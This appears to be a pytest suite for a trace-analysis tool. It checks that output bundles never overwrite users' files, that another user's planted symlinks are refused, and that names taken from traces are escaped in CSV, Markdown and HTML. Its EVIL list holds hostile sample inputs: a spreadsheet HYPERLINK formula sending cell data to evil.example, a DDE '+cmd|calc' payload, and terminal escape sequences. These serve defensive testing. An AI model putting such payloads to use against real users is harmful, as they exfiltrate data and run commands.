"""No user file lost, no other user's link followed, every medium escaped (issue 49, cases 1-4, 10).

Each case is the audit's reproduction, made by the test: the user's own files where a bundle
writes, a rank directory as its own output, another user's symlink in a shared directory, a
trace whose names are spreadsheet formulas and invisible characters.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import pathlib
import shutil
import stat

import pytest

from helpers import run_cli
from synthetic import KinetoBuilder
from tracekit.common.ownership import MANIFEST
from tracekit.reports.text import csv_cell, html, markdown, visible

ROOT = pathlib.Path(__file__).resolve().parent.parent
TINY = ROOT / "fixtures" / "gpu" / "h100" / "h10080gbhbm3_llama3-8b_4layers_prefill1x512_decode_bs16_ncu_twin.json.gz"
RANKS = ROOT.parent / "shared" / "fixtures" / "torch" / "v100_dlrm_8ranks"


def _digest(folder: pathlib.Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*")) if p.is_file()}


def test_the_users_own_files_of_a_bundles_names_are_refused_and_kept(tmp_path):
    out = tmp_path / "mydir"
    (out / "blocks.csv").mkdir(parents=True)
    (out / "blocks.csv" / "mine.txt").write_text("the user's folder")
    (out / "report.md").write_text("the user's notes")
    before = _digest(out)
    code, _, err = run_cli("analyze", TINY, "--out", out, "--format", "json")
    assert code == 2 and "was not written by tracekit" in err and "--force" in err and len(err.strip().splitlines()) == 1
    assert _digest(out) == before and sorted(os.listdir(out)) == ["blocks.csv", "report.md"]
    # --force replaces them (the user asked), and the manifest then lists them
    code, _, _ = run_cli("analyze", TINY, "--out", out, "--format", "json", "--force")
    assert code == 0 and (out / "blocks.csv").is_file() and "the user's" not in (out / "report.md").read_text()
    assert set(json.loads((out / MANIFEST).read_text())["entries"]) >= {"blocks.csv", "report.md", "summary.json"}


def test_a_bundle_replaces_only_what_its_manifest_lists(tmp_path):
    out = tmp_path / "bundle"
    assert run_cli("analyze", TINY, "--out", out, "--format", "json").returncode == 0
    (out / "notes.txt").write_text("the user's, beside the bundle")
    first = (out / "summary.json").stat().st_ino
    assert run_cli("analyze", TINY, "--out", out, "--format", "json").returncode == 0
    assert (out / "notes.txt").read_text() == "the user's, beside the bundle"
    assert (out / "summary.json").stat().st_ino != first  # the bundle was written again
    assert "notes.txt" not in json.loads((out / MANIFEST).read_text())["entries"]


@pytest.mark.skipif(not RANKS.is_dir(), reason="needs the shared fixtures' v100_dlrm_8ranks")
def test_a_rank_directory_as_its_own_output_never_loses_the_users_files(tmp_path):
    job = tmp_path / "job"
    shutil.copytree(RANKS, job)
    (job / "rank0").mkdir()
    (job / "rank0" / "train.log").write_text("the user's log")
    before = _digest(job)
    code, _, err = run_cli("analyze", job, "--out", job, "--format", "json")
    assert code == 2 and "rank0" in err and _digest(job) == before  # refused before any work: nothing written
    (job / "rank0" / "train.log").unlink()
    (job / "rank0").rmdir()
    assert run_cli("analyze", job, "--out", job, "--format", "json").returncode == 0
    traces = {p.name for p in RANKS.iterdir()}
    assert traces <= set(os.listdir(job)) and (job / "rank0" / "summary.json").is_file()
    # the next run over the directory reads its traces, not the bundle it wrote there
    code, out, _ = run_cli("analyze", job, "--out", job, "--format", "json")
    assert code == 0 and json.loads(out)["ranks"] == 8
    assert all(hashlib.sha256((job / n).read_bytes()).hexdigest() == hashlib.sha256((RANKS / n).read_bytes()).hexdigest() for n in traces)


def test_what_if_is_in_summary_json_as_written_not_added_after(tmp_path, monkeypatch):
    """--what-if's projection goes into summary.json when the bundle is built: a full disk at
    that point fails the run with nothing installed, never a cut summary.json in a bundle
    that looks whole. Here: the file as installed is the one the staging verified."""
    out = tmp_path / "bundle"
    code, _, err = run_cli("analyze", TINY, "--out", out, "--what-if", "H200", "--format", "json")
    assert code == 0, err
    summary = json.loads((out / "summary.json").read_text())
    assert summary["what_if"] and "H200" in json.dumps(summary["what_if"])


def _planted_link(tmp_path, name: str) -> tuple[pathlib.Path, pathlib.Path]:
    """(link, its target): `shared/NAME` in a sticky world-writable directory, planted by
    nobody (uid 65534), naming root's 0600 file."""
    shared = tmp_path / "shared"
    shared.mkdir()
    os.chmod(shared, 0o1777)
    secret = tmp_path / "important.conf"
    secret.write_text("root's")
    os.chmod(secret, 0o600)
    link = shared / name
    link.symlink_to(secret)
    os.lchown(link, 65534, 65534)
    return link, secret


@pytest.mark.skipif(os.geteuid() != 0, reason="a symlink owned by another user can be made only as root here")
def test_another_users_symlink_is_never_followed(tmp_path):
    link, secret = _planted_link(tmp_path, "timeline.json")
    for args in (["export", TINY, "--perfetto", link], ["analyze", TINY, "--out", link]):
        code, _, err = run_cli(*args)
        assert code == 2 and "owned by another user" in err, (args, err)
    assert secret.read_text() == "root's" and stat.S_IMODE(secret.stat().st_mode) == 0o600


def test_the_users_own_link_is_written_through_keeping_inode_and_mode(tmp_path):
    target = tmp_path / "kept.json"
    target.write_text("old")
    os.chmod(target, 0o640)
    inode = target.stat().st_ino
    link = tmp_path / "timeline.json"
    link.symlink_to(target)
    code, _, err = run_cli("export", TINY, "--perfetto", link)
    assert code == 0, err
    assert link.is_symlink() and target.stat().st_ino == inode and stat.S_IMODE(target.stat().st_mode) == 0o640
    assert "traceEvents" in json.loads(target.read_text())


EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "evil\r=1+2", "\x1b]8;;http://x\x07link\x1b]8;;\x07\x1b[2J",
        "+cmd|calc", "@SUM(A1)", "-2+3", "zero\u200bwidth\u2060join\ufeffbom\U000e0041tag\u2028line"]


def _evil_trace(path: pathlib.Path) -> str:
    """Kernels no framework op launched: the blocks are their function names, the trace's text."""
    b, t = KinetoBuilder(), 0.0
    for _ in range(10):
        for name in EVIL + ["plain_kernel"]:
            b.kernel(name, t, t + 5, 4.0)
            t += 10
    return b.write(path)


def test_csv_cells_from_a_trace_are_never_formulas(tmp_path):
    out = tmp_path / "bundle"
    code, _, err = run_cli("analyze", _evil_trace(tmp_path / "evil.json"), "--out", out, "--format", "json")
    assert code == 0, err
    raw = (out / "blocks.csv").read_bytes()
    assert b"\x1b" not in raw and b"\r" not in raw and b"\x07" not in raw and "\u200b".encode() not in raw
    with open(out / "blocks.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    blocks = [r["block"] for r in rows]
    assert len(rows) == len(EVIL) + 1  # one row per kernel function: no CR made a row of its own
    assert not any(b.startswith(("=", "+", "-", "@", "\t", "\r")) for b in blocks)
    assert "'=HYPERLINK" in blocks and "plain_kernel" in blocks
    # numbers stay numbers (a negative one is not neutralised)
    assert all(float(r["gpu_time_ns"]) > 0 for r in rows)


def test_csv_cell_follows_owasp_and_leaves_plain_text():
    assert csv_cell("=1+2") == "'=1+2" and csv_cell("-3.2%") == "'-3.2%" and csv_cell("@x") == "'@x"
    assert csv_cell("a=b") == "a=b" and csv_cell("tab\tin") == "tab\\x09in" and csv_cell("\tfirst") == "\\x09first"


@pytest.mark.parametrize("char, shown", [("\u200b", "\\u200b"), ("\u200d", "\\u200d"), ("\u2060", "\\u2060"), ("\ufeff", "\\ufeff"),
                                         ("\U000e0041", "\\U000e0041"), ("\u2028", "\\u2028"), ("\u2029", "\\u2029")])
def test_invisible_characters_are_shown_in_every_medium_a_person_reads(char, shown):
    name = f"gemm{char}kernel"
    for rendered in (visible(name), markdown(name), str(html(name)), csv_cell(name)):
        assert char not in rendered and shown in rendered.replace("\\\\", "\\")


@pytest.mark.skipif(os.geteuid() != 0, reason="a symlink owned by another user can be made only as root here")
def test_another_users_link_inside_the_output_directory_is_refused_before_the_work(tmp_path):
    link, secret = _planted_link(tmp_path, "diff.json")
    code, _, err = run_cli("diff", TINY, TINY, "--out", link.parent, "--force")
    assert code == 2 and "owned by another user" in err and len(err.strip().splitlines()) == 1, err  # no analysis ran first
    assert secret.read_text() == "root's"
